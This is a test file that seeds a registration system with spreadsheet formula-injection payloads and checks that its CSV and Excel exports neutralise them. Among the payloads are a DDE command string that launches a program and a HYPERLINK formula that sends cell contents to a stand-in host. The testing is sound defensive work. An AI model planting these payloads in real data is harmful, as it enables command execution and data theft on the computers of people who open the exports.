import { PersonService, PositionService } from '#people';
import { theSystem } from '#platform';
import { download, graphql, signedIn, testApi, type SignedInStaff, type TestApi } from '#support';
import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/universal';
import { aDelegation, anEvent, anInstitution, done } from '../factories/delegations.js';

/**
 * A name that a spreadsheet program computes, on the computer of whoever exports a list: alf.io wrote what people had typed into its CSV
 * as it stood (CVE-2023-2258, mended in 2.0-M4-2304).
 */
let api: TestApi;
let owner: SignedInStaff;
let eventId: string;

const formulas = [
  '=cmd|"/C calc"!A0',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '=HYPERLINK("https://malo.example?d="&A1,"ver")',
  '＝1+1',
  '\t=1+1',
  '\r\n=1+1',
  ' =1+1',
  'Rosa;=1+1;',
  ',=1+1',
];

const register = `mutation ($input: RegisterPeopleInput!) {
  registerPeople(input: $input) { registrations { id } refusals { code field } } }`;

beforeAll(async () => {
  api = await testApi();
  eventId = (await anEvent(api)).id;
  owner = await signedIn(api, { roles: { [eventId]: 'owner' }, isAdministrator: true });
  const delegation = await aDelegation(api, { eventId, quota: 40 });
  const institution = await anInstitution(api, '=Institución(1)');
  for (const [n, formula] of formulas.entries()) {
    const person = { givenNames: formula, familyNames: `${formula} ${n}`, positionTitle: formula };
    const variables = { input: { delegationId: delegation.id, people: [person] } };
    const { data } = await graphql<{ registerPeople: { refusals: unknown[] } }>(api.url, register, {
      cookie: owner.cookie,
      variables,
    });
    expect(data.registerPeople.refusals).toEqual([]);
    const draft = { givenNames: formula, familyNames: 'Quispe' };
    const { id: personId } = done(await api.get(PersonService).create(theSystem, draft));
    const position = { personId, institutionId: institution.id, title: formula, startsOn: '2023-01-01' };
    done(await api.get(PositionService).create(theSystem, position));
  }
  const change = `mutation ($id: ID!, $name: String!) { updateEvent(id: $id, input: { name: $name, city: "=1+1" }) {
    ... on Event { id } ... on Refusal { code } } }`;
  const variables = { id: eventId, name: '=2+5+cmd' };
  const { data } = await graphql(api.url, change, { cookie: owner.cookie, variables });
  expect(data).toEqual({ updateEvent: { id: eventId } });
});
afterAll(() => api.close());

/** What a program would compute; also the wide forms of the signs, which some read as the narrow ones. */
const computes = (cell: string): boolean => /^\s*[=+\-@＝＋－＠]/.test(cell);
const cellsOf = (rows: (string | null)[][]): string[] => rows.slice(1).flatMap((row) => row.map((cell) => cell ?? ''));

const files = ['persons', 'registrations', 'events'] as const;

async function taken(kind: string, format: string) {
  const file = await download(api.url, `/exports/${kind}.${format}?eventId=${eventId}`, owner.cookie);
  expect(file.status).toBe(200);
  return file.bytes;
}

describe.each(files)('an exported file of %s', (kind) => {
  it('as CSV holds no cell that a program computes, and breaks no row', async () => {
    const rows = parse(await taken(kind, 'csv'), { bom: true, relax_column_count: true });
    expect(cellsOf(rows).filter(computes)).toEqual([]);
    expect(new Set(rows.map(({ length }) => length)).size).toBe(1);
    expect(cellsOf(rows).filter((cell) => cell.startsWith("'")).length).toBeGreaterThan(1);
  });

  it('as CSV holds none for a program that separates by semicolons, as Spanish ones do, whatever the quotation marks', async () => {
    const cells = (await taken(kind, 'csv'))
      .toString()
      .slice(1)
      .split(/[;\r\n]/);
    expect(cells.filter(computes)).toEqual([]);
  });

  it('as a workbook holds text alone: no formula, no number, no link', async () => {
    const bytes = await taken(kind, 'xlsx');
    const rows = (await readSheet(new Blob([new Uint8Array(bytes)]) as never)) as unknown as (string | null)[][];
    expect(cellsOf(rows).filter(computes)).toEqual([]);
    expect(rows.slice(1).flatMap((row) => row.filter((cell) => cell !== null && typeof cell !== 'string'))).toEqual([]);
    expect(cellsOf(rows).filter((cell) => cell.startsWith("'")).length).toBeGreaterThan(1);
  });
});

it('a heading of the file is never what somebody typed: the filters of its address stand in none of its cells', async () => {
  const path = `/exports/persons.csv?search=${encodeURIComponent('=1+1')}&%3D1=%3D1`;
  const { text, headers } = await download(api.url, path, owner.cookie);
  const [headings] = parse(text, { bom: true, relax_column_count: true });
  expect(headings.filter(computes)).toEqual([]);
  expect(headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+"$/);
});
